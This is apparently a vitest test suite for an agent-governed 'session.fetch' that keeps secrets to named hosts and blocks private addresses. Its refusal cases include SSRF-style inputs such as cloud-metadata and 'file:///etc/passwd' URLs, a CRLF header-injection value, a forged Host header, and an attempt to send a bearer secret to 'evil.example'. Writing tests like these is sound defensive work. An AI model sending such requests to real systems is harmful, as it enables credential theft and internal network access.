/** `session.fetch`: requests as governed calls, secrets for named hosts alone, no way to private addresses. */
import { createServer, type IncomingHttpHeaders, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { inspect } from 'node:util'
import { gzipSync } from 'node:zlib'
import {
  createHaldir,
  currentCall,
  envKey,
  type GuardCall,
  governed,
  type Haldir,
  type HaldirOptions,
  type Session,
} from '@haldir/core'
import { memorySink } from '@haldir/core/sinks/memory'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { entriesOf, proves } from '../promises.ts'
import { denial, misuse } from './scene.ts'

const SECRET = 'sk_live_canary/9f8e+7d6c=5b4a'
const KEY = envKey('KEY', { env: { KEY: 'ab'.repeat(32) } })
const AUTH = { authorization: 'Bearer {{api_key}}' }

interface Got {
  readonly method: string
  readonly url: string
  readonly headers: IncomingHttpHeaders
  readonly body: string
}

let server: Server
let port: number
let got: Got[]
let answer: (response: ServerResponse, request: Got) => void
const open: Haldir[] = []

beforeEach(async () => {
  got = []
  answer = (response) => response.end('fine')
  server = createServer(async (request, response) => {
    const chunks = await Array.fromAsync(request as AsyncIterable<Buffer>)
    const one = {
      method: request.method as string,
      url: request.url as string,
      headers: request.headers,
      body: Buffer.concat(chunks).toString(),
    }
    got.push(one)
    answer(response, one)
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  port = (server.address() as AddressInfo).port
})

afterEach(async () => {
  await Promise.all(open.splice(0).map((haldir) => haldir.close()))
  server.closeAllConnections()
  await new Promise((closed) => server.close(closed))
})

const here = (path = '/') => `http://127.0.0.1:${port}${path}`

async function scene(options: HaldirOptions = {}, scopes: readonly string[] = ['http']) {
  const sink = memorySink()
  const haldir = createHaldir({
    sinks: [sink],
    vault: { keys: [KEY] },
    egress: { privateHosts: [`127.0.0.1:${port}`] },
    ...options,
  })
  open.push(haldir)
  const hosts = [`127.0.0.1:${port}`, `localhost:${port}`, 'api.example.com', 'api.example.com:8080']
  await haldir.vault.put('api_key', SECRET, { scope: 'http', hosts })
  const session = await haldir.createSession({ agent: 'bot', scopes })
  const entries = (type?: string) => entriesOf(sink.lines).filter((entry) => !type || entry.type === type)
  return { haldir, session, entries, lines: sink.lines }
}

describe('a request', () => {
  it('reaches the host with the secret in the header, and nobody else reads it', async () => {
    proves('agents-never-see-keys', 'secrets-scoped')
    const { session, entries, lines } = await scene()
    answer = (response, { headers }) => {
      response.setHeader('x-echo', headers.authorization as string)
      response.end(JSON.stringify({ you: headers.authorization, base64: Buffer.from(SECRET).toString('base64') }))
    }
    const response = await session.fetch(here('/charges?x=1'), {
      method: 'POST',
      headers: { 'X-Order': '17' },
      body: '{"amount":1}',
      secretHeaders: AUTH,
    })
    expect(got).toMatchObject([{ method: 'POST', url: '/charges?x=1', body: '{"amount":1}' }])
    expect(got[0]?.headers).toMatchObject({ authorization: `Bearer ${SECRET}`, 'x-order': '17' })
    expect(response).toBeInstanceOf(Response)
    expect(response).toMatchObject({ status: 200, ok: true, url: here('/charges?x=1') })
    expect(response.headers.get('x-echo')).toBe('Bearer [redacted:api_key]')
    const body = await response.json()
    // The last digit of base64 also depends on what would come next.
    expect(body).toEqual({
      you: 'Bearer [redacted:api_key]',
      base64: expect.stringMatching(/^\[redacted:api_key\].?=*$/),
    })
    expect(inspect(response, { depth: null, showHidden: true }) + lines.join()).not.toContain(SECRET)
    expect(entries().map(({ type, tool }) => `${type} ${tool ?? ''}`.trim())).toEqual([
      'writer-opened',
      'secret-put',
      'session-created',
      'intent session.fetch',
      'secret-read session.fetch',
      'outcome session.fetch',
    ])
  })

  it('without a secret, with every kind of body and its type', async () => {
    const { session } = await scene()
    const bytes = new Uint8Array([0, 1, 254, 255])
    for (const body of ['text', new URLSearchParams({ a: '1 2' }), bytes]) {
      await session.fetch(new URL(here()), { method: 'put', body })
    }
    await session.fetch(here(), { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } })
    await session.fetch(here('#not-sent'))
    expect(got.map(({ method, headers, body, url }) => [method, headers['content-type'], body, url])).toEqual([
      ['PUT', 'text/plain;charset=UTF-8', 'text', '/'],
      ['PUT', 'application/x-www-form-urlencoded;charset=UTF-8', 'a=1+2', '/'],
      ['PUT', undefined, Buffer.from(bytes).toString(), '/'],
      ['POST', 'application/json', '{}', '/'],
      ['GET', undefined, '', '/'],
    ])
  })

  it('is judged by the policy with its host, path, method and headers, which are never the secret', async () => {
    proves('policy-judges')
    const seen = vi.fn(async (_: GuardCall) => 'allow' as const)
    const { session, entries } = await scene({
      guards: [seen],
      policy: {
        default: 'deny',
        rules: [
          { id: 'reads', tools: ['session.fetch'], when: { 'args.method': { eq: 'GET' } }, then: 'allow' },
          { id: 'no-admin', tools: ['session.fetch'], when: { 'args.path': { startsWith: '/admin' } }, then: 'deny' },
        ],
      },
    })
    await session.fetch(here('/v1?q=1'), { secretHeaders: AUTH, headers: { accept: '*/*' } })
    expect((await denial(session.fetch(here('/admin/x')))).rule).toBe('no-admin')
    expect((await denial(session.fetch(here(), { method: 'DELETE' }))).rule).toBe('default')
    expect(seen.mock.calls.map(([call]) => call)).toMatchObject([
      {
        tool: { name: 'session.fetch' },
        args: {
          url: here('/v1?q=1'),
          host: `127.0.0.1:${port}`,
          path: '/v1',
          method: 'GET',
          headers: { accept: '*/*', authorization: 'Bearer {{api_key}}' },
        },
      },
    ])
    expect(got).toHaveLength(1)
    expect(entries('refusal')).toHaveLength(2)
  })

  it('a policy that reads what requests do not have is found at once', async () => {
    const policy = {
      default: 'deny',
      rules: [{ id: 'typo', tools: ['session.fetch'], when: { 'args.hostname': { eq: 'x' } }, then: 'allow' }],
    } as const
    const error = await misuse(() => createHaldir({ sinks: [memorySink()], policy }))
    expect(error).toMatchObject({ code: 'invalid-policy' })
  })

  it('counts on meters, and is explained as it is judged', async () => {
    const { haldir, session } = await scene({
      meters: [{ unit: 'calls', per: 'tenant', limit: 2, window: 'day', tools: ['session.fetch'] }],
    })
    await session.fetch(here())
    await session.fetch(here())
    expect((await denial(session.fetch(here()))).code).toBe('quota-exceeded')
    expect(haldir.explain({ tool: 'session.fetch', session }).verdict).toBe('allow')
  })

  it('the answer is read as it comes: big, compressed, in pieces that cut the secret', async () => {
    const { session } = await scene()
    answer = (response) => {
      response.write(`begin ${SECRET.slice(0, 9)}`)
      setImmediate(() => response.end(`${SECRET.slice(9)} end`))
    }
    expect(await (await session.fetch(here(), { secretHeaders: AUTH })).text()).toBe('begin [redacted:api_key] end')
    const big = `${'x'.repeat(1_000_000)}${SECRET}${'y'.repeat(1_000_000)}`
    answer = (response) => {
      response.setHeader('content-encoding', 'gzip')
      response.end(gzipSync(big))
    }
    const response = await session.fetch(here(), { secretHeaders: AUTH })
    expect(response.headers.has('content-encoding')).toBe(false)
    expect((await response.text()) === big.replace(SECRET, '[redacted:api_key]')).toBe(true)
    const bytes = Buffer.from(Array.from({ length: 100_000 }, (_, index) => (index * 7) % 256))
    answer = (response) => response.end(bytes)
    expect(Buffer.from(await (await session.fetch(here())).arrayBuffer()).equals(bytes)).toBe(true)
    answer = (response) => response.writeHead(204).end()
    expect(await session.fetch(here())).toMatchObject({ status: 204, body: null })
    answer = (response) => response.writeHead(404).end('nothing')
    expect(await session.fetch(here())).toMatchObject({ status: 404, ok: false })
  })

  it('a secret of a tool is its to send, and of no other', async () => {
    const { haldir, session } = await scene()
    await haldir.vault.put('own', SECRET, { scope: 'http', tools: ['charge'], hosts: [`127.0.0.1:${port}`] })
    const request = () => session.fetch(here(), { secretHeaders: { 'x-key': '{{own}}' } }).then(({ status }) => status)
    const named = (name: string) => governed(async () => request(), { name, scope: [] }, { session })
    expect(await named('charge')()).toBe(200)
    expect((await denial(named('other')())).message).toContain('the secret `own` is not for this tool')
    expect((await denial(request())).message).toContain('the secret `own` is not for this tool')
    expect(got.map(({ headers }) => headers['x-key'])).toEqual([SECRET])
  })
})

describe('refused, recorded, and nothing sent:', () => {
  const refusals: [string, (session: Session) => Promise<unknown>, string, string][] = [
    [
      'a host that the secret does not name',
      (s) => s.fetch('https://evil.example/', { secretHeaders: AUTH }),
      'secret-unavailable',
      'not for this host',
    ],
    [
      'a port that it does not name',
      (s) => s.fetch('https://api.example.com:8443/', { secretHeaders: AUTH }),
      'secret-unavailable',
      'not for this host',
    ],
    [
      'a secret that is not there',
      (s) => s.fetch(here(), { secretHeaders: { a: '{{nothing}}' } }),
      'secret-unavailable',
      'there is no secret `nothing`',
    ],
    [
      'a secret over http',
      (s) => s.fetch('http://api.example.com:8080/', { secretHeaders: AUTH }),
      'secret-unavailable',
      'over https alone',
    ],
    [
      'a secret over http to the port of https',
      (s) => s.fetch('http://api.example.com:443/', { secretHeaders: AUTH }),
      'secret-unavailable',
      'not for this host',
    ],
    [
      'a header that a secret goes into',
      (s) => s.fetch(here(), { headers: { Authorization: 'mine' }, secretHeaders: AUTH }),
      'invalid-arguments',
      '`headers`',
    ],
    [
      'a header that is no text',
      (s) => s.fetch(here(), { headers: { a: 1 as never } }),
      'invalid-arguments',
      '`headers`',
    ],
    [
      'a header that only the client sets',
      (s) => s.fetch(here(), { headers: { 'Transfer-Encoding': 'chunked' } }),
      'invalid-arguments',
      '`headers`',
    ],
    [
      'an address of this machine',
      (s) => s.fetch(`http://127.0.0.1:${port + 1}/`),
      'policy-denied',
      'a private address',
    ],
    ['the same, spelled otherwise', (s) => s.fetch(`http://0x7f.1:${port + 1}/`), 'policy-denied', 'a private address'],
    ['the same in IPv6', (s) => s.fetch(`http://[::ffff:127.0.0.1]:${port}/`), 'policy-denied', 'a private address'],
    [
      'cloud metadata',
      (s) => s.fetch('http://169.254.169.254/latest/meta-data/'),
      'policy-denied',
      'a private address',
    ],
    ['a name of this machine', (s) => s.fetch(`http://localhost:${port}/`), 'policy-denied', 'a private address'],
    [
      'a private address for a secret that names it',
      (s) => s.fetch(`http://127.0.0.1:${port + 1}/`, { secretHeaders: AUTH }),
      'policy-denied',
      'a private address',
    ],
    ['no URL', (s) => s.fetch('no url'), 'invalid-arguments', '`url`'],
    ['a file', (s) => s.fetch('file:///etc/passwd'), 'invalid-arguments', '`url`'],
    ['a user in the URL', (s) => s.fetch(`http://a:b@127.0.0.1:${port}/`), 'invalid-arguments', '`url`'],
    ['a method that is none', (s) => s.fetch(here(), { method: 'CONNECT' }), 'invalid-arguments', '`method`'],
    ['a body to GET', (s) => s.fetch(here(), { body: 'x' }), 'invalid-arguments', '`body`'],
    [
      'another host in a header',
      (s) => s.fetch(here(), { headers: { Host: 'evil.example' } }),
      'invalid-arguments',
      '`headers`',
    ],
    [
      'a header with a line break',
      (s) => s.fetch(here(), { headers: { a: 'b\r\nc: d' } }),
      'invalid-arguments',
      '`headers`',
    ],
    [
      'half a character in the body',
      (s) => s.fetch(here(), { method: 'POST', body: '\ud800' }),
      'invalid-arguments',
      'well-formed',
    ],
  ]

  it.each(refusals)('%s', async (_, request, code, reason) => {
    const { session, entries, lines } = await scene()
    const refused = await denial(request(session))
    expect(refused.code).toBe(code)
    expect(refused.message).toContain(reason)
    expect(got).toEqual([])
    const told = entries().filter((entry) => entry.code === code)
    expect(told).toMatchObject([{ tool: 'session.fetch', data: { reason: expect.stringContaining(reason) } }])
    for (const hidden of ['evil', 'latest/meta-data', 'passwd', 'a:b', SECRET])
      expect(lines.join()).not.toContain(hidden)
  })

  it('what the session may not', async () => {
    const { haldir, session } = await scene({}, ['read'])
    const refused = await denial(session.fetch(here(), { secretHeaders: AUTH }))
    expect(refused.message).toContain('does not hold the scope that the secret `api_key` requires')
    await session.revoke()
    expect((await denial(session.fetch(here()))).code).toBe('session-revoked')
    await haldir.close()
    expect(got).toEqual([])
  })

  it('a host that resolves to a private address, alone or among others, whatever it is asked for next', async () => {
    const answers = [['127.0.0.1'], ['8.8.8.8', '10.0.0.1'], ['::1'], ['::ffff:169.254.169.254']]
    const lookup = vi.fn(async () => answers[(lookup.mock.calls.length - 1) % answers.length] as string[])
    const { session, entries } = await scene({ egress: { lookup } })
    for (const _ of answers) {
      const refused = await denial(session.fetch(`http://rebound.example.com:${port}/`))
      expect(refused).toMatchObject({ code: 'policy-denied', rule: 'fetch:private-address' })
    }
    expect(lookup).toHaveBeenCalledTimes(answers.length)
    expect(got).toEqual([])
    expect(entries('outcome').map(({ data }) => [data.ended, data.error])).toEqual(
      answers.map(() => ['failed', 'policy-denied']),
    )
  })

  it('is asked for once: what was checked is what is connected to', async () => {
    const lookup = vi.fn(async () => ['127.0.0.1'])
    const { session } = await scene({ egress: { lookup, privateHosts: [`api.example.com:${port}`] } })
    expect((await session.fetch(`http://api.example.com:${port}/`)).status).toBe(200)
    expect(lookup).toHaveBeenCalledTimes(1)
    expect(got[0]?.headers.host).toBe(`api.example.com:${port}`)
    // What is meant is that host at that port: the connection is not there for others.
    expect((await denial(session.fetch(`http://other.example.com:${port}/`))).rule).toBe('fetch:private-address')
  })

  it.each([301, 302, 303, 307, 308])('a redirect (%i), though it leads to the same host', async (status) => {
    const { session, entries } = await scene()
    answer = (response) => response.writeHead(status, { location: '/elsewhere' }).end()
    const refused = await denial(session.fetch(here(), { secretHeaders: AUTH }))
    expect(refused).toMatchObject({ code: 'policy-denied', rule: 'fetch:redirect' })
    expect(got).toHaveLength(1)
    expect(entries('outcome')).toMatchObject([{ data: { ended: 'failed', error: 'policy-denied' } }])
  })
})

describe('ends', () => {
  it('when the caller or the session does, also while the answer is read', async () => {
    const { session } = await scene()
    answer = () => {}
    const waiting = session.fetch(here())
    await vi.waitFor(() => expect(got).toHaveLength(1))
    const caller = new AbortController()
    const second = session.fetch(here(), { signal: caller.signal })
    await vi.waitFor(() => expect(got).toHaveLength(2))
    caller.abort(new Error('the caller gave up'))
    await expect(second).rejects.toThrow('the caller gave up')
    answer = (response) => void response.write('the beginning')
    const { body } = await session.fetch(here())
    const reader = body!.getReader()
    expect(Buffer.from((await reader.read()).value!).toString()).toBe('the beginning')
    const rest = reader.read()
    await session.revoke('done')
    await expect(rest).rejects.toMatchObject({ code: 'session-revoked' })
    expect((await denial(waiting)).code).toBe('session-revoked')
    await expect(session.fetch(here(), { signal: AbortSignal.abort(new Error('over')) })).rejects.toThrow()
  })

  it('with the network’s own error, free of the secret', async () => {
    const { session, entries } = await scene()
    answer = (response) => response.destroy()
    const failed = await session.fetch(here(), { secretHeaders: AUTH }).catch((error: unknown) => error)
    expect(failed).toBeInstanceOf(Error)
    expect(inspect(failed, { depth: null })).not.toContain(SECRET)
    expect(entries('outcome')).toMatchObject([{ data: { ended: 'failed' } }])
  })

  it('when the secret can not stand in a header, without repeating it', async () => {
    const { haldir, session, lines } = await scene()
    await haldir.vault.put('pem', `-----BEGIN-----\n${SECRET}\n-----END-----\n`, {
      scope: 'http',
      hosts: [`127.0.0.1:${port}`],
    })
    const refused = await denial(session.fetch(here(), { secretHeaders: { a: '{{pem}}' } }))
    expect(refused.message).toContain('can not stand in a header')
    expect(inspect(refused) + lines.join()).not.toContain(SECRET)
    await haldir.vault.put('line', `${SECRET}\n`, { scope: 'http', hosts: [`127.0.0.1:${port}`] })
    await session.fetch(here(), { secretHeaders: { a: 'key {{line}}' } })
    expect(got[0]?.headers.a).toBe(`key ${SECRET}`)
  })
})

it('a secret of a tool is not sent once its call has ended, nor for another session', async () => {
  const { haldir, session } = await scene()
  await haldir.vault.put('own', SECRET, { scope: 'http', tools: ['charge'], hosts: [`127.0.0.1:${port}`] })
  const other = await haldir.createSession({ agent: 'other', scopes: ['http'] })
  const request = (by: Session) => by.fetch(here(), { secretHeaders: { a: '{{own}}' } })
  let later: Promise<unknown> = Promise.resolve()
  let goOn = () => {}
  const charge = governed(
    async () => {
      expect((await denial(request(other))).message).toContain('not for this tool')
      later = new Promise<void>((resolve) => {
        goOn = resolve
      }).then(() => request(session))
    },
    { name: 'charge', scope: [] },
    { session },
  )
  await charge()
  goOn()
  expect((await denial(later)).message).toContain('not for this tool')
  expect(got).toEqual([])
})

it('what is sent is what was given when it was asked for, and bytes that are text are judged as such', async () => {
  proves('invariant-2')
  const seen = vi.fn(async (_: GuardCall) => 'allow' as const)
  const { session } = await scene({ guards: [seen] })
  const body = Buffer.from('{"amount":1}')
  const headers = { a: 'before' }
  const url = new URL(here('/before'))
  const sending = session.fetch(url, { method: 'POST', body, headers })
  body.fill('x')
  headers.a = 'after'
  url.pathname = '/after'
  await sending
  expect(got).toMatchObject([{ url: '/before', body: '{"amount":1}', headers: { a: 'before' } }])
  await session.fetch(here(), { method: 'POST', body: new Uint8Array([255, 0]) })
  const args = seen.mock.calls.map(([call]) => call.args as Record<string, string>)
  expect(args[0]).toMatchObject({ body: '{"amount":1}' })
  expect(args[1]).toMatchObject({ bodyHash: expect.stringMatching(/^[0-9a-f]{64}$/) })
})

it('a dot behind the host is no other host, for a policy and for a secret', async () => {
  const rules = [
    { id: 'evil', tools: ['session.fetch'], when: { 'args.host': { eq: 'evil.example' } }, then: 'deny' },
  ] as const
  const fetch = vi.fn(async (_url: string) => new Response('fine'))
  const { session } = await scene({ fetch, policy: { default: 'allow', allowByDefault: true, rules } })
  expect((await denial(session.fetch('https://evil.example./'))).rule).toBe('evil')
  await session.fetch('https://api.example.com./', { secretHeaders: AUTH })
  expect(fetch.mock.calls.map(([url]) => url)).toEqual(['https://api.example.com/'])
})

it('headers, status and names of headers are free of secrets that are not ASCII, too', async () => {
  const { haldir, session } = await scene()
  const secret = 'pässwörd-geheim'
  await haldir.vault.put('german', secret, { scope: 'http' })
  const use = governed(
    async () => currentCall().secret('german').reveal().length,
    { name: 'use', scope: 'http', secrets: ['german'] },
    { session },
  )
  await use()
  answer = (response) => {
    const bytes = Buffer.from(secret).toString('latin1')
    response.writeHead(200, bytes, { 'x-echo': bytes, 'x-hex': Buffer.from(secret).toString('hex') }).end(secret)
  }
  const response = await session.fetch(here())
  expect(response.headers.get('x-echo')).toBe('[redacted:german]')
  expect(response.headers.get('x-hex')).toBe('[redacted:german]')
  expect(response.statusText).toBe('[redacted:german]')
  expect(await response.text()).toBe('[redacted:german]')
})

describe('a `fetch` of the application’s own', () => {
  it('sends instead, and gets nothing to follow', async () => {
    const fetch = vi.fn(async (_url: string, _init: object) => new Response(`you said ${SECRET}`))
    const { session } = await scene({ fetch, egress: {} })
    const response = await session.fetch('https://api.example.com/v1', {
      method: 'POST',
      body: 'x',
      secretHeaders: AUTH,
    })
    expect(await response.text()).toBe('you said [redacted:api_key]')
    expect(fetch.mock.calls).toMatchObject([
      [
        'https://api.example.com/v1',
        { method: 'POST', body: 'x', redirect: 'manual', headers: { authorization: `Bearer ${SECRET}` } },
      ],
    ])
    expect((await denial(session.fetch('https://evil.example/', { secretHeaders: AUTH }))).code).toBe(
      'secret-unavailable',
    )
    expect((await denial(session.fetch('http://127.0.0.1/'))).rule).toBe('fetch:private-address')
    fetch.mockResolvedValueOnce(Response.redirect('https://evil.example/'))
    expect((await denial(session.fetch('https://api.example.com/', { secretHeaders: AUTH }))).rule).toBe(
      'fetch:redirect',
    )
    expect(fetch).toHaveBeenCalledTimes(2)
  })

  it('is asked only for names that lead outside, where names can be asked about', async () => {
    const fetch = vi.fn(async () => new Response('fine'))
    const lookup = vi.fn(async (name: string) => [name === 'api.example.com' ? '8.8.8.8' : '10.0.0.1'])
    const { session } = await scene({ fetch, egress: { lookup } })
    expect((await session.fetch('https://api.example.com/')).status).toBe(200)
    expect((await denial(session.fetch('https://inside.example.com/'))).rule).toBe('fetch:private-address')
    expect(fetch).toHaveBeenCalledTimes(1)
  })
})

it('is searched for credentials like other arguments; its answer, which is no plain data, passes', async () => {
  const credentials = {
    name: 'x',
    find: (text: string) =>
      [{ start: text.indexOf('PASTED'), end: text.length, kind: 'x' }].filter(({ start }) => start >= 0),
  }
  const { session } = await scene({ detect: { credentials, arguments: 'refuse', results: 'redact' } })
  answer = (response) => response.end('PASTED')
  expect(await (await session.fetch(here(), { secretHeaders: AUTH })).text()).toBe('PASTED')
  const refused = await denial(session.fetch(here(), { method: 'POST', body: 'a PASTED token' }))
  expect(refused).toMatchObject({ code: 'invalid-arguments', rule: 'detect:x' })
  expect(got).toHaveLength(1)
})

it('a resolver that hangs, throws or answers nonsense ends the request, in time', async () => {
  proves('invariant-6')
  const never = () => new Promise<never>(() => {})
  const fetch = vi.fn(async () => new Response('fine'))
  for (const lookup of [
    never,
    () => [],
    () => ['nonsense'],
    () => 'text' as never,
    () => Promise.reject(new Error('no')),
  ]) {
    for (const own of [{}, { fetch }]) {
      const { session, entries } = await scene({ ...own, egress: { lookup }, deadline: '50ms' })
      await expect(session.fetch(`http://api.example.com:${port}/`)).rejects.toThrow()
      expect(entries('outcome')).toMatchObject([{ data: { ended: 'failed' } }])
    }
  }
  expect(fetch).not.toHaveBeenCalled()
  expect(got).toEqual([])
})

it('in shadow mode what would be refused is recorded and sent, but no secret to a host it does not name', async () => {
  proves('shadow-runs')
  const { session, entries } = await scene({ mode: 'shadow', egress: {} })
  expect((await session.fetch(here())).status).toBe(200)
  expect(entries('refusal')).toMatchObject([{ rule: 'fetch:private-address', enforced: false }])
  answer = (response) => response.writeHead(302, { location: '/' }).end()
  expect((await session.fetch(here())).status).toBe(302)
  // Over http, to a place that nobody has named as meant; to one that the secret does not name.
  for (const url of [here(), `http://127.0.0.1:${port + 1}/`]) {
    expect((await denial(session.fetch(url, { secretHeaders: AUTH }))).code).toBe('secret-unavailable')
  }
  expect(got).toHaveLength(2)
})

it('what a developer writes wrongly is an error at once', async () => {
  const { session, entries } = await scene()
  const before = entries().length
  for (const [url, options, path] of [
    [1, {}, 'url'],
    [here(), { methods: 'GET' }, 'methods'],
    [here(), { redirect: 'follow' }, 'redirect'],
    [here(), { headers: ['a'] }, 'headers'],
    [here(), { body: {} }, 'body'],
    [here(), { body: new FormData() }, 'body'],
    [here(), { signal: {} }, 'signal'],
    [here(), { secretHeaders: { a: 'no name' } }, 'secretHeaders.a'],
    [here(), { secretHeaders: { a: '{{one}} {{two}}' } }, 'secretHeaders.a'],
    [here(), { secretHeaders: { host: '{{one}}' } }, 'secretHeaders'],
    [here(), { secretHeaders: { 'a b': '{{one}}' } }, 'secretHeaders'],
    [here(), { secretHeaders: { a: '{{one}}', A: '{{two}}' } }, 'secretHeaders'],
  ] as const) {
    expect((await misuse(() => session.fetch(url as string, options as object))).path).toBe(path)
  }
  for (const egress of [{ privateHosts: 'x' }, { privateHosts: ['http://x'] }, { lookup: 'x' }, { allow: [] }, 'x']) {
    expect(() => createHaldir({ sinks: [memorySink()], egress: egress as object })).toThrow()
  }
  expect(() => createHaldir({ sinks: [memorySink()], fetch: 'x' as never })).toThrow('`fetch` is a function')
  expect(entries()).toHaveLength(before)
})
